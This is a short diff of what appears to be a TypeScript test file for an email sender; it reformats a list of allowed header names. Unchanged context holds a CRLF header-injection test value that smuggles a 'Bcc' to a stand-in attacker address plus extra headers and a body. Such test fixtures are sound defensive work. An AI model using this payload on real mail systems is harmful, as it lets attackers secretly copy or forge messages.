@@ -69,7 +69,15 @@ async function sendOdd(odd: Odd) {
 }
 
 const ours = [
-  ...["from", "to", "reply-to", "subject", "message-id", "auto-submitted", "date", "mime-version", "content-type"],
+  "from",
+  "to",
+  "reply-to",
+  "subject",
+  "message-id",
+  "auto-submitted",
+  "date",
+  "mime-version",
+  "content-type",
 ].sort();
 const injected = "x\r\nBcc: thief@evil.example\r\nX-Evil: yes\r\n\r\n<b>body</b>";
 
